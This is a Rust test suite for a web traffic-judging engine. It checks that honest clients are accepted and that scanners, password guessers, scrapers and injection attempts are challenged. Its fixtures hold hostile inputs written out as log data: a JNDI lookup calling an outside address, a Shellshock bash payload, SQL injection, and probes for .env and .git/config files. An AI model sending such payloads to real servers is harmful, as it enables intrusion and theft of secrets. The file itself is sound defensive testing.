//! People and programs that mean no harm: the preset `web` accepts each of their requests. Who attacks among them is
//! challenged or worse, no later than by CrowdSec's scenarios.

use std::collections::BTreeMap;
use std::sync::Arc;

use judge::Action;

use crate::corpora::{corpus, engine};
use crate::crowds::{crowd, seeds};

/// The judgements of an address, by action, and the rules of the first that was not accepted.
#[derive(Default)]
pub(crate) struct AddressJudgements {
    pub(crate) actions: BTreeMap<String, usize>,
    pub(crate) first: Option<(usize, Action, Vec<String>)>,
    /// The request of this address, counted from one, that was the first to be challenged, throttled or rejected.
    pub(crate) acted_on: Option<usize>,
}

/// Returns whether an action is more than a look.
pub(crate) fn is_acted_on(action: &Action) -> bool {
    !matches!(action.to_string().as_str(), "accept" | "review_after")
}

/// Judges the lines of a log in their order, by address.
pub(crate) fn judged(log: &[u8]) -> BTreeMap<String, AddressJudgements> {
    let engine = engine("web");
    let pipeline = Arc::clone(&engine.plan().pipelines[0]);
    let mut found: BTreeMap<String, AddressJudgements> = BTreeMap::new();
    for (number, line) in log.split(|byte| *byte == b'\n').enumerate() {
        let Ok(event) = content::web::access_log::event(line) else { continue };
        let Some(ip) = event.get("client.ip").map(ToString::to_string) else { continue };
        let arrival = event.time.unwrap();
        let prepared = engine.prepare(&pipeline, event, arrival);
        let verdict = pollster::block_on(engine.decide(vec![prepared])).remove(0).verdict;
        let judged = found.entry(ip).or_default();
        *judged.actions.entry(verdict.action.to_string()).or_default() += 1;
        if is_acted_on(&verdict.action) {
            judged.acted_on.get_or_insert(judged.actions.values().sum());
        }
        if verdict.action != Action::Accept && judged.first.is_none() {
            let rules = verdict.reasons.iter().map(|reason| reason.rule.clone()).collect();
            judged.first = Some((number + 1, verdict.action, rules));
        }
    }
    found
}

/// Clients that were not always accepted, with their actions and the first reason.
fn refused(judged: &BTreeMap<String, AddressJudgements>) -> Vec<String> {
    let said = |(ip, judged): (&String, &AddressJudgements)| {
        Some(format!("{ip} {:?}: {:?}", judged.actions, judged.first.as_ref()?))
    };
    judged.iter().filter_map(said).collect()
}

#[test]
fn who_means_no_harm_is_accepted() {
    let judged = judged(&corpus("honest.log"));
    let requests: usize = judged.values().flat_map(|judged| judged.actions.values()).sum();
    let wrong = refused(&judged);
    assert!(wrong.is_empty(), "{} of {} addresses: {wrong:#?}", wrong.len(), judged.len());
    assert!(requests > 4000 && judged.len() > 35, "{requests} requests of {} addresses", judged.len());
    println!("{requests} requests of {} addresses are accepted", judged.len());
}

/// The faults of a seed, and the number of honest sources, honest requests and attackers it had.
type SeedOutcome = (Vec<String>, [usize; 3]);

fn judge_seed(seed: u64) -> SeedOutcome {
    let crowd = crowd(seed);
    let judged = judged(crowd.log.as_bytes());
    assert_eq!(judged.len(), crowd.sources.len(), "each address of seed {seed} is judged");
    let (mut wrong, mut counts) = (Vec::new(), [0; 3]);
    for (ip, judged) in judged {
        let source = &crowd.sources[&ip];
        let is_right = match source.caught_by {
            None => judged.first.is_none(),
            Some(by) => judged.acted_on.is_some_and(|request| request <= by),
        };
        if !is_right {
            let (actions, first) = (&judged.actions, &judged.first);
            wrong.push(format!("seed {seed}, {}, {ip}: {actions:?}, first {first:?}", source.actor));
        }
        match source.caught_by {
            None => {
                counts[0] += 1;
                counts[1] += judged.actions.values().sum::<usize>();
            }
            Some(_) => counts[2] += 1,
        }
    }
    (wrong, counts)
}

/// Ten hours drawn from ten seeds, or from those of `SEEDS=11..111`. The preset was tuned with the first ten.
#[test]
fn attackers_are_found_in_crowds_that_mean_no_harm() {
    let seeds: Vec<u64> = seeds(1..11).collect();
    // Two at a time, as judging takes most of the time of this test.
    let outcomes: Vec<SeedOutcome> = std::thread::scope(|scope| {
        let halves = seeds.chunks(seeds.len().div_ceil(2).max(1));
        let workers: Vec<_> = halves
            .map(|half| scope.spawn(|| half.iter().map(|seed| judge_seed(*seed)).collect::<Vec<_>>()))
            .collect();
        workers.into_iter().flat_map(|worker| worker.join().unwrap()).collect()
    });
    let wrong: Vec<&String> = outcomes.iter().flat_map(|(wrong, _)| wrong).collect();
    let [honest, requests, attackers] =
        [0, 1, 2].map(|at| outcomes.iter().map(|(_, counts)| counts[at]).sum::<usize>());
    assert!(wrong.is_empty(), "{} of {}: {wrong:#?}", wrong.len(), honest + attackers);
    assert!(
        honest > 100 * seeds.len() && attackers > 50 * seeds.len(),
        "{honest} honest, {attackers} attackers"
    );
    println!(
        "{requests} requests of {honest} honest addresses are accepted, {attackers} attackers acted on in time"
    );
}

/// The attacker is acted on, as far as his requests tell; nobody else behind his address is.
#[test]
fn neighbours_of_an_attacker_are_accepted() {
    const ATTACKER: &str = "curl/8.5.0";
    let mut lines = Vec::new();
    for second in 0..900 {
        let (person, site) = (second % 10, "https://example.org/");
        let agent = format!("{BROWSER} {person}");
        if second % 4 == 0 {
            lines.push(line(second, &format!("GET /article/{second}"), 200, site, &agent));
            lines.push(line(second, "GET /static/site.css", 200, site, &agent));
        }
        if second % 90 == 50 {
            lines.push(line(second, "POST /login", 302, site, &agent));
        }
        if second == 333 || second == 666 {
            lines.push(line(second, "GET /gone.html", 404, site, &agent));
        }
        if second % 3 == 0 {
            let attack = match second / 3 % 3 {
                0 => line(second, &format!("GET /{second}/.env"), 404, "-", ATTACKER),
                1 => line(second, "POST /login", 401, "-", ATTACKER),
                _ => line(second, "GET /?q=%27%20OR%201%3D1--", 200, "-", ATTACKER),
            };
            lines.push(attack);
        }
    }
    let engine = engine("web");
    let pipeline = Arc::clone(&engine.plan().pipelines[0]);
    let (mut acted_on, mut accepted) = (0, 0);
    for line in &lines {
        let event = content::web::access_log::event(line.as_bytes()).unwrap();
        let arrival = event.time.unwrap();
        let prepared = engine.prepare(&pipeline, event, arrival);
        let verdict = pollster::block_on(engine.decide(vec![prepared])).remove(0).verdict;
        let is_attack = line.contains(ATTACKER);
        // A broken link beside a scanner may be looked at.
        let is_right = is_attack || !is_acted_on(&verdict.action);
        assert!(is_right, "{line}: {} by {:?}", verdict.action, verdict.reasons);
        acted_on += u32::from(is_attack && is_acted_on(&verdict.action));
        accepted += u32::from(!is_attack);
    }
    assert!(acted_on >= 150 && accepted > 400, "{acted_on} requests of the attacker, {accepted} of others");
}

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

/// A line of an address's log, this many seconds after nine.
fn line(second: usize, request: &str, status: u16, referer: &str, agent: &str) -> String {
    let (minute, second) = (second / 60, second % 60);
    let time = format!("17/May/2026:09:{minute:02}:{second:02} +0000");
    format!("192.0.2.7 - - [{time}] \"{request} HTTP/1.1\" {status} 900 \"{referer}\" \"{agent}\"\n")
}

/// Returns what is made of an address that sends these lines.
fn verdict(lines: &[String]) -> (BTreeMap<String, usize>, Vec<String>) {
    let judged = judged(lines.concat().as_bytes()).remove("192.0.2.7").unwrap();
    (judged.actions, judged.first.map(|(_, _, rules)| rules).unwrap_or_default())
}

#[test]
fn who_means_harm_is_not() {
    let check = |name: &str, lines: Vec<String>, action: &str, rule: &str| {
        let (actions, rules) = verdict(&lines);
        assert!(actions.contains_key(action), "{name}: {actions:?} by {rules:?}");
        assert!(rules.iter().any(|own| own == rule), "{name}: {rules:?}");
    };
    let one =
        |request: &str, status, referer: &str, agent: &str| vec![line(0, request, status, referer, agent)];
    check("a declared tool", one("GET /", 200, "-", "sqlmap/1.8"), "reject", "SCANNER");
    check("code in an agent", one("GET /", 200, "-", "${jndi:ldap://192.0.2.1/a}"), "challenge", "INJECTION");
    check(
        "code in a referer",
        one("GET /", 200, "() { :; }; /bin/bash -c id", BROWSER),
        "challenge",
        "INJECTION",
    );
    check("an exploit", one("GET /_ignition/execute-solution", 404, "-", BROWSER), "challenge", "EXPLOIT");
    let scraper = (0..200).map(|turn| line(turn / 2, &format!("GET /article/{turn}"), 200, "-", BROWSER));
    check("a scraper", scraper.collect(), "challenge", "SCRAPING");
    let guesser = (0..20).map(|turn| line(turn, "POST /login", 401, "https://example.org/login", BROWSER));
    check("a guesser", guesser.collect(), "challenge", "PASSWORD_GUESSING");
    let guesser = (0..20).map(|turn| line(turn, "POST /wp-login.php", 200, "-", BROWSER));
    check("a guesser who is shown the form again", guesser.collect(), "challenge", "SAME_LOGIN_ANSWER");
    let counter = (0..40).map(|turn| {
        let status = if turn % 2 == 0 { 404 } else { 200 };
        line(turn, &format!("GET /invoice?number={turn}"), status, "-", BROWSER)
    });
    check("who counts", counter.collect(), "challenge", "ENUMERATION");
    let paths =
        ["/.env", "/wp-config.php.bak", "/.git/config", "/phpinfo.php", "/actuator/env", "/backup.zip"];
    let probes = |status| {
        paths
            .iter()
            .enumerate()
            .map(move |(turn, path)| line(turn, &format!("GET {path}"), status, "-", BROWSER))
    };
    check("a scanner", probes(404).collect(), "challenge", "PROBING");
    let (actions, _) = verdict(&probes(200).collect::<Vec<_>>());
    assert_eq!(actions.keys().collect::<Vec<_>>(), ["accept"], "what is there may be asked for");
    let (actions, _) = verdict(&vec![line(0, "GET /owa/", 404, "-", BROWSER); 20]);
    assert_eq!(actions.keys().collect::<Vec<_>>(), ["accept"], "one old bookmark is no scan");
}
